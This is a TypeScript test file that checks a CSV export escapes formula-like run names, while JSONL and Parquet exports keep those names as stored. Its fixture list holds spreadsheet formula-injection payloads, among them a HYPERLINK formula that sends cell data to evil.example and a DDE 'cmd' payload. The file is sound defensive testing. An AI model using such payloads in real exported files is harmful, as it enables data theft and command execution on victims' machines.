import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import type { Db } from '@/db/client';
import { clips, pairs } from '@/db/schema';
import { exportChunks } from '@/server/export/export';
import { collect } from '@/tests/helpers/collect';
import { parseCsvRows, readJsonl, readParquet } from '@/server/export/readBack';
import { insertLabel } from '@/tests/helpers/server/export-fixtures';
import { addRun, addUser, freshDb } from '@/tests/helpers/server/fixtures';
import { firstRow } from '@/db/dialect';

/** Run names a spreadsheet would run as formulas (the OWASP list: = + - @ TAB CR), and one that is not. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '=1\nsecond line', // papaparse's own escapeFormulae misses this one (its regex stops at \n)
];
const PLAIN = 'grid run, "quoted" (safe)';

let db: Db;
let cleanup: () => void;
const runIdByName = new Map<string, number>();
beforeAll(async () => {
  ({ db, cleanup } = (await freshDb('csv-formula')));
  const annotator = await addUser(db, 'annotator');
  for (const [i, name] of [...FORMULAS, PLAIN].entries()) {
    const { runId, pairIds } = await addRun(db, { count: 1, name });
    runIdByName.set(name, runId);
    await insertLabel(db, { pairId: pairIds[0]!, userId: annotator.id, choice: 'left', answeredAt: 1_700_000_000_000 + i });
    // A negative true return: a number, which must stay a number (not be quoted as text).
    const pair = (await firstRow(db.select().from(pairs).where(eq(pairs.id, pairIds[0]!))))!;
    await db.update(clips).set({ trueReturn: -3.5 }).where(eq(clips.id, pair.clipAId));
  }
});
afterAll(() => cleanup());

const bytes = async (format: 'csv' | 'jsonl' | 'parquet') => Buffer.concat(await collect(exportChunks(db, format, { emails: false })));

describe('CSV export escapes cells a spreadsheet would run as formulas', () => {
  it('prefixes formula-like text with a single quote, leaves other text and numbers alone', async () => {
    const [header, ...rows] = parseCsvRows((await bytes('csv')).toString('utf8'));
    const col = (name: string) => header!.indexOf(name);
    const byRun = new Map(rows.map((r) => [Number(r[col('run_id')]), r]));
    for (const name of FORMULAS) {
      const row = byRun.get(runIdByName.get(name)!)!;
      expect(row[col('run_name')]).toBe(`'${name}`);
      expect(row[col('clip_a_true_return')]).toBe('-3.5');
    }
    expect(byRun.get(runIdByName.get(PLAIN)!)![col('run_name')]).toBe(PLAIN);
    // No cell of the file starts a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('JSONL and Parquet keep the names exactly as stored', async () => {
    const fromJsonl = readJsonl((await bytes('jsonl')).toString('utf8'));
    const fromParquet = await readParquet(await bytes('parquet'));
    for (const records of [fromJsonl, fromParquet]) {
      expect(records.map((r) => r.run_name).sort()).toEqual([...FORMULAS, PLAIN].sort());
    }
  });
});
